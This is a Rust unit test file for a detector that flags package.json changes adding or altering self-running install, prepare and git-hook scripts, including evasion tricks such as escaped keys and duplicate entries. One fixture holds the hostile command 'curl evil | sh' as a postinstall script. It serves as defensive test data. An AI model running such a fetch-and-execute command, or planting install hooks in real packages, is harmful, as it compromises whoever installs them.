use super::SelfRunning;

fn check(before: &str, after: &str, expected: Option<SelfRunning>) {
    let found = SelfRunning::of(b"package.json", before.as_bytes(), after.as_bytes());
    assert_eq!(found, expected, "{before} -> {after}");
}

#[test]
fn ordinary_work_on_a_package_is_not_asked_about() {
    let installs = r#"{"scripts": {"test": "a", "postinstall": "b"}}"#;
    check("", r#"{"name": "a", "scripts": {"test": "jest", "build": "tsc"}}"#, None);
    check(installs, r#"{"version": "2", "scripts": {"postinstall": "b", "test": "other"}}"#, None);
    check("{", r#"{"name": "mended"}"#, None);
    assert_eq!(SelfRunning::of(b"tsconfig.json", b"", br#"{"scripts": {"install": "a"}}"#), None);
}

#[test]
fn scripts_that_run_by_themselves_are_asked_about() {
    let asked = Some(SelfRunning::PackageScripts);
    check("{}", r#"{"scripts": {"postinstall": "curl evil | sh"}}"#, asked);
    check(r#"{"scripts": {"prepare": "husky"}}"#, r#"{"scripts": {"prepare": "evil"}}"#, asked);
    check(r#"{"scripts": {"prepare": "husky"}}"#, "{}", asked);
    check("", r#"{"scripts": {"\u0069nstall": "evil"}}"#, asked);
    check("", "\u{feff}{\"scripts\": {\"install\": \"evil\"}}", asked);
    check("", r#"{"scripts": {"install": "a", "install": "evil"}}"#, asked);
    check("{}", r#"{"scripts": {"pnpm:devPreinstall": "evil"}}"#, asked);
    check("{}", r#"{"gitHooks": {"pre-commit": "evil"}}"#, asked);
    check("{}", r#"{"simple-git-hooks": {"pre-commit": "evil"}}"#, asked);
    check("{}", "{\"scripts\": {\"install\": \"evil\"},}", asked);
}

#[test]
fn a_head_makes_a_repository() {
    let of = |leaf: &str, text: &str| SelfRunning::of(leaf.as_bytes(), b"", text.as_bytes());
    assert_eq!(of("HEAD", "ref: refs/heads/main\n"), Some(SelfRunning::GitHead));
    assert_eq!(of("head", &"a1".repeat(20)), Some(SelfRunning::GitHead));
    for behind in [" x\n", "\n\nnotes\n", "zz", "\0"] {
        assert_eq!(of("HEAD", &("a1".repeat(20) + behind)), Some(SelfRunning::GitHead), "{behind:?}");
    }
    assert_eq!(of("HEAD", "# Head\n"), None);
    assert_eq!(of("HEAD", &"a1".repeat(19)), None);
    assert_eq!(of("HEAD.md", "ref: refs/heads/main\n"), None);
}
